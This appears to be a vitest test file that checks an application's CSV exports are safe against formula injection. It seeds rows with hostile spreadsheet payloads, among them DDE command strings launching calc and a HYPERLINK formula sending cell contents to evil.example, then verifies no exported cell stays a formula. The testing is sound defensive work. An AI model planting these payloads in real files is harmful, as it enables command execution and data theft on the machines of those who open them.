import { afterAll, beforeAll, expect, test } from 'vitest';
import { placePermissions, places } from '../src/places.ts';
import { type Call, pathOf } from '../src/platform/contract/call.ts';
import { trimmed } from '../src/platform/contract/fields.ts';
import { groupCalls } from '../src/platform/documents/call-groups.ts';
import type { TestClient } from '../src/platform/server/testing/test-client.ts';
import { createTestServer, type TestServer } from '../src/platform/server/testing/test-server.ts';
import { serverTools } from '../src/tools/server.ts';
import { openInSpreadsheet, spreadsheetMissing } from './every-export/spreadsheet.ts';
import { exampleMaker, examplesOf } from './examples.ts';

const exports = groupCalls(serverTools)
  .flatMap((group) => group.calls)
  .filter(({ reply }) => reply.kind === 'download' && reply.contentType.startsWith('text/csv'));

/** Texts that some spreadsheet runs when they are in a cell unchanged, and texts that break a file apart. */
const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '"=1+1"',
  '",=1+1,"',
  'a"\r\n=1+1,"',
  "'=1+1",
  '＝1+1',
  '﹢1+1',
  '−1+1',
  '\u200b=1+1',
  '\u2066=1+1',
  '\u00ad@SUM(1)',
  '\u0001=1+1',
  'a\n=1+1',
  'a,b;c\td',
  'x;=1+1;y',
  'x\t=1+1\ty',
  'x;"=1+1";y',
  "x;\u200b-2+3+cmd|' /C calc'!A0",
];

let server: TestServer;
let it: TestClient;
let params: ReadonlyMap<string, Record<string, string>>;
const send = (call: Call) => {
  const { among, body } = examplesOf('exports')[call.name] ?? {};
  const address = `${pathOf(call, params.get(call.name))}?${new URLSearchParams(among)}`;
  return it.fetch(call.method, address, body === undefined ? {} : { payload: body });
};

beforeAll(async () => {
  server = await createTestServer({ tools: serverTools, places, placePermissions });
  it = await server.signIn('it');
  const make = exampleMaker(server);
  for (const [index, text] of hostile.entries()) {
    // What a directory says about a person may be hostile as well.
    await server.database.pool.query(`update people set name = $1 where email = 'it@sawtooth.example'`, [
      text,
    ]);
    for (const { addRow } of Object.values(examplesOf('exports'))) await addRow(make, text, index);
  }
  const named = Object.entries(examplesOf('exports')).map(
    async ([name, example]) => [name, (await example.params?.(make)) ?? {}] as const,
  );
  params = new Map(await Promise.all(named));
});
afterAll(() => server.stop());

/** Cells of a file by RFC 4180 to the letter: anything it does not allow is an error. */
function cellsOf(file: string): string[][] {
  const records: string[][] = [];
  const record = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
  let cells: string[] = [];
  while (record.lastIndex < file.length) {
    const at = record.lastIndex;
    const [, cell = '', end] = record.exec(file) ?? [];
    if (end === undefined) throw new Error(`This is no CSV: ${JSON.stringify(file.slice(at, at + 60))}`);
    cells.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === ',') continue;
    records.push(cells);
    cells = [];
  }
  return records;
}

/** Cells as seen by a spreadsheet that separates by semicolons or tabs, and so reads our quotes as text. */
function cellsElsewhere(file: string): string[] {
  return file.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s\p{Z}\p{C}"]+/u, ''));
}

/** The first visible character of a cell, in its plain form. */
function firstSign(cell: string): string {
  const seen = Array.from(cell).find((sign) => !/[\s\p{Z}\p{C}]/u.test(sign)) ?? '';
  return seen.normalize('NFKC').replace('\u2212', '-');
}

test.each(exports.map((call) => [call.name, call] as const))(
  'no cell of %s is a formula, every record has every cell, and nothing is lost',
  async (_name, call) => {
    const { status, text, headers } = await send(call);
    expect(status).toBe(200);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9.-]+\.csv"$/);
    // Without it, Excel for Windows takes UTF-8 for another encoding.
    expect(text.startsWith('\ufeff')).toBe(true);
    const [header = [], ...records] = cellsOf(text);
    expect(
      records,
      'an export without rows proves nothing: see exports in the examples of its tool',
    ).toHaveLength(hostile.length);
    for (const record of records) {
      expect(record).toHaveLength(header.length);
      for (const cell of record) {
        expect('=+-@'.includes(firstSign(cell)) && firstSign(cell) !== '', JSON.stringify(cell)).toBe(false);
        expect(cell).not.toMatch(/^[\t\r\n]/);
      }
    }
    // What this program wrote itself has no separator in it, so each of these starts someone's text.
    const started = cellsElsewhere(text).filter((cell) => /^[=+\-@]/.test(firstSign(cell)));
    expect(started).toEqual([]);
  },
);

const missing = spreadsheetMissing();

test.skipIf(missing !== null)(
  `every CSV file opens in LibreOffice with the same figures and without a formula${missing === null ? '' : ` (${missing})`}`,
  async () => {
    const files = new Map<string, string>();
    for (const call of exports) files.set(call.name, (await send(call)).text);
    const opened = await openInSpreadsheet(files);
    let figures = 0;
    for (const [name, file] of files) {
      const rows = opened.get(name) ?? [];
      for (const [at, record] of cellsOf(file).entries())
        for (const [column, written] of record.entries()) {
          const cell = rows[at]?.[column];
          const place = `${name}, row ${at + 1}, column ${column + 1}: ${JSON.stringify(written)}`;
          expect(cell?.formula ?? null, place).toBeNull();
          if (/^\d+(\.\d+)?$/.test(written)) {
            figures += 1;
            expect(cell?.number, place).toBe(Number(written));
          } else if (!/^(true|false)$/.test(written) && /[a-z]/i.test(written)) {
            expect(visible(cell?.text ?? ''), place).toBe(visible(written));
          }
        }
    }
    expect(figures).toBeGreaterThan(hostile.length);
  },
  180_000,
);

/** What a person sees of a cell: neither control characters nor blanks around it. */
function visible(text: string): string {
  return text
    .replaceAll(/[\p{C}]/gu, '')
    .replaceAll(/\s+/g, ' ')
    .trim();
}

test.each(exports.filter(({ method }) => method === 'GET').map((call) => [call.name, call] as const))(
  'HEAD of %s says what would come and leaves no audit entry of a disclosure',
  async (_name, call) => {
    const count = 'select count(*) as entries from audit_entries';
    const get = await send(call);
    const before = (await server.database.pool.query(count)).rows;
    const head = await it.fetch('HEAD', pathOf(call, params.get(call.name)));
    const announced = ['content-type', 'content-disposition'].map((name) => [name, head.headers[name]]);
    expect([head.status, head.text]).toEqual([200, '']);
    expect(announced).toEqual(announced.map(([name]) => [name, get.headers[String(name)]]));
    expect((await server.database.pool.query(count)).rows).toEqual(before);
  },
);

const verbatim = exports.flatMap((call) => {
  const { column } = examplesOf('exports')[call.name] ?? {};
  return column === undefined ? [] : [[call.name, column, call] as const];
});

test.each(verbatim)(
  '%s has each text in %s as it was written, except for the apostrophe and what nobody sees around it',
  async (_name, column, call) => {
    const [header = [], ...records] = cellsOf((await send(call)).text);
    const written = records.map((record) => record[header.indexOf(column)]).toReversed();
    const seen = (text = '') => trimmed(text.replaceAll("'", '').normalize('NFC'));
    expect(written.map(seen)).toEqual(hostile.map(seen));
  },
);
